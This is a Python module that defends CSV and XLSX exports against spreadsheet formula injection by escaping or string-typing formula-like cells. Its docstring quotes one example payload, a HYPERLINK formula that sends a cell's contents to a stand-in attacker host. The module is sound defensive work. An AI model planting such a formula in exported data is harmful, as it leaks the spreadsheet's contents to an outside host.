"""Exported cells that spreadsheets open as data, never as formulas (CWE-1236).

A book's names and columns, the lists' names and analysts' comments all reach the CSV and
XLSX files analysts open in Excel or LibreOffice. A counterparty named
`=HYPERLINK("http://evil.example/?"&A1,"details")` would otherwise become a live formula
there (openpyxl even writes such text as a formula cell). CSV has no cell types, so text a
spreadsheet would read as a formula gets a leading apostrophe, as OWASP advises; plain
numbers ("-12.5") are left alone. XLSX cells are typed, so the same text is written as a
string cell, unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_cell", "csv_dict", "csv_row", "xlsx_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """`value`, or a text a spreadsheet would run as a formula made inert with "'"."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A CSV row's cells, each through `csv_cell`."""
    return [csv_cell(v) for v in values]


def csv_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    """A `csv.DictWriter` row's cells, each through `csv_cell`."""
    return {k: csv_cell(v) for k, v in row.items()}


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for a write-only openpyxl `sheet`: text that openpyxl would write as a formula
    becomes a string cell, its text unchanged; anything else is passed as it is."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            c = WriteOnlyCell(sheet, value)
            c.data_type = "s"
            row.append(c)
        else:
            row.append(value)
    return row
